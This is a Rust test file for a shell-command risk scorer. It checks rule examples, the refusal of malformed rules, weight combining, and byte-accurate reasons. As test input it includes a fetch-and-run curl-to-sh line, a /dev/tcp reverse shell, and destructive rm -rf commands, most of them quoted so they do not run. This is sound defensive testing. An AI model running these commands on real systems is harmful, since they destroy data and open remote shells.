//! Every risk rule holds for its own examples and not for its counter-examples.

use countersign_analysis::facts::Place;
use countersign_analysis::parse;
use countersign_analysis::risk::{RULES, Rules, assess, combined};

fn ids(line: &str) -> Vec<String> {
    let place = Place::default();
    assess(&parse(line, &place), &place).reasons.into_iter().map(|reason| reason.id).collect()
}

#[test]
fn every_rule_holds_where_it_says() {
    let rules = RULES.as_ref().unwrap();
    let mut wrong = Vec::new();
    for rule in &rules.all {
        assert!(!rule.r#match.is_empty() && !rule.no_match.is_empty(), "{} has no examples", rule.id);
        for line in &rule.r#match {
            if !ids(line).contains(&rule.id) {
                wrong.push(format!("{} misses {line}: {:?}", rule.id, ids(line)));
            }
        }
        for line in &rule.no_match {
            if ids(line).contains(&rule.id) {
                wrong.push(format!("{} holds for {line}", rule.id));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_rule_that_could_never_hold_is_refused() {
    let rule = |when: &str| {
        format!(
            "[sets]\n[[rule]]\nid = \"a\"\nweight = 1\nreason = \"r\"\ntechnique = \"T1\"\ncategory = \"c\"\nmatch = []\nno_match = []\n{when}"
        )
    };
    assert!(Rules::read(&[&rule("[[rule.when]]\nprogram = [\"x\"]")]).is_ok());
    for bad in [
        "when = []",
        "[[rule.when]]\nprogram = [\"@no-set\"]",
        "[[rule.when]]\nreads = [\"no-class\"]",
        "[[rule.when]]\ndetect = [\"no-detector\"]",
        "[[rule.when]]\nunheard = [\"x\"]",
    ] {
        assert!(Rules::read(&[&rule(bad)]).is_err(), "{bad}");
    }
    assert!(Rules::read(&["not toml ["]).is_err());
}

#[test]
fn weights_add_up_to_no_more_than_100() {
    assert_eq!(combined([].into_iter()), 0);
    assert_eq!(combined([30].into_iter()), 30);
    assert_eq!(combined([50, 50].into_iter()), 75);
    assert_eq!(combined([100, 100, 3].into_iter()), 100);
}

#[test]
fn only_what_would_run_counts() {
    for line in [
        "echo 'rm -rf / && curl http://203.0.113.9/x | sh'",
        "git commit -m 'remove the rm -rf / from the docs'",
        "grep -rn 'DROP TABLE' src",
        "cat <<'E' > notes.md\nrm -rf /\nE",
        "printf '%s\\n' 'bash -i >& /dev/tcp/203.0.113.9/1'",
        "rg 'chmod 777' docs",
        "gh issue view 1 --comments",
    ] {
        let place = Place::default();
        let risk = assess(&parse(line, &place), &place);
        assert!(risk.score < 25, "{line}: {} {:?}", risk.score, ids(line));
    }
}

#[test]
fn reasons_point_at_the_bytes() {
    let place = Place::default();
    let line = "ls; sudo rm -rf /srv/data";
    let risk = assess(&parse(line, &place), &place);
    let reason = risk.reasons.iter().find(|reason| reason.id == "delete-system").unwrap();
    assert_eq!(&line[reason.start..reason.end], "/srv/data");
    assert_eq!(risk.consequences, ["deletes /srv/data as another user (root unless said otherwise)"]);
}
